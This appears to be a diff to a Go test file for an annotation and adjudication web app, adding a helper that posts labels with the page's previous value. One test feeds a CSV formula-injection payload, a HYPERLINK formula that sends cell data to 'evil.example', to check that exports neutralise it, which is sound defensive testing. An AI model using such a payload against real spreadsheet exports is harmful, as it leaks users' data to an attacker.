@@ -40,6 +40,17 @@ func previousOf(body string) string {
 	return m[1]
 }
 
+// label answers the pair page at page (a pair's address; with ?adjudicate=1, its
+// adjudication) as the person with cookie c, as a browser does: the form is posted with
+// the previous value the page holds.
+func (f *fixture) label(c *http.Cookie, page string, form url.Values) *httptest.ResponseRecorder {
+	f.t.Helper()
+	_, body := get(f.t, f.h, page, c)
+	form.Set("previous", previousOf(body))
+	path, _, _ := strings.Cut(page, "?")
+	return f.do("POST", path+"/label", c, form)
+}
+
 func TestLabelingQueueBlindAndHistory(t *testing.T) {
 	t.Parallel()
 	f := newFixture(t, 1<<20)
@@ -133,8 +144,7 @@ func TestAdjudicationAndCrossCampaign(t *testing.T) {
 	f.withCampaign()
 	ann, rev := f.signIn("annotator"), f.signIn("reviewer")
 	// The annotator disagrees with the seed label on pair 1 (minor).
-	_, body := get(t, f.h, "/campaigns/1/pairs/1", ann)
-	f.do("POST", "/campaigns/1/pairs/1/label", ann, url.Values{"category": {"different"}, "previous": {previousOf(body)}})
+	f.label(ann, "/campaigns/1/pairs/1", url.Values{"category": {"different"}})
 	_, page := get(t, f.h, "/campaigns/1", rev)
 	if !strings.Contains(page, `data-testid="adjudication"`) || !strings.Contains(page, "annotator: different/no; import:seed: minor/yes") {
 		t.Fatalf("adjudication queue missing the disagreement:\n%s", page)
@@ -143,7 +153,7 @@ func TestAdjudicationAndCrossCampaign(t *testing.T) {
 	if rec := f.do("GET", "/campaigns/1/pairs/1?adjudicate=1", ann, nil); rec.Code != http.StatusForbidden {
 		t.Errorf("annotator adjudicating: %d", rec.Code)
 	}
-	_, body = get(t, f.h, "/campaigns/1/pairs/1?adjudicate=1", rev)
+	_, body := get(t, f.h, "/campaigns/1/pairs/1?adjudicate=1", rev)
 	if !strings.Contains(body, `data-testid="others"`) {
 		t.Error("the adjudicator does not see the labels")
 	}
@@ -235,10 +245,8 @@ func TestLabelExportRoundTrip(t *testing.T) {
 	f := newFixture(t, 1<<20)
 	f.withCampaign()
 	ann, rev := f.signIn("annotator"), f.signIn("reviewer")
-	_, body := get(t, f.h, "/campaigns/1/pairs/1", ann)
-	f.do("POST", "/campaigns/1/pairs/1/label", ann, url.Values{"category": {"boilerplate"}, "duplicate": {"no"}, "note": {"a, \"quoted\" note"}, "previous": {previousOf(body)}})
-	_, body = get(t, f.h, "/campaigns/1/pairs/1?adjudicate=1", rev)
-	f.do("POST", "/campaigns/1/pairs/1/label", rev, url.Values{"category": {"minor"}, "adjudicate": {"1"}, "previous": {previousOf(body)}})
+	f.label(ann, "/campaigns/1/pairs/1", url.Values{"category": {"boilerplate"}, "duplicate": {"no"}, "note": {"a, \"quoted\" note"}})
+	f.label(rev, "/campaigns/1/pairs/1?adjudicate=1", url.Values{"category": {"minor"}, "adjudicate": {"1"}})
 	for _, format := range []string{"csv", "jsonl"} {
 		_, exported := get(t, f.h, "/campaigns/1/labels."+format, rev)
 		g := newFixture(t, 1<<20)
@@ -386,8 +394,7 @@ func TestLabelsCSVNeutralisesFormulas(t *testing.T) {
 	f.withCampaign()
 	ann, rev := f.signIn("annotator"), f.signIn("reviewer")
 	const note = `=HYPERLINK("http://evil.example/?"&A1,"open")`
-	_, body := get(t, f.h, "/campaigns/1/pairs/1", ann)
-	if rec := f.do("POST", "/campaigns/1/pairs/1/label", ann, url.Values{"category": {"different"}, "note": {note}, "previous": {previousOf(body)}}); rec.Code != http.StatusSeeOther {
+	if rec := f.label(ann, "/campaigns/1/pairs/1", url.Values{"category": {"different"}, "note": {note}}); rec.Code != http.StatusSeeOther {
 		t.Fatalf("label: %d", rec.Code)
 	}
 	_, out := get(t, f.h, "/campaigns/1/labels.csv", rev)
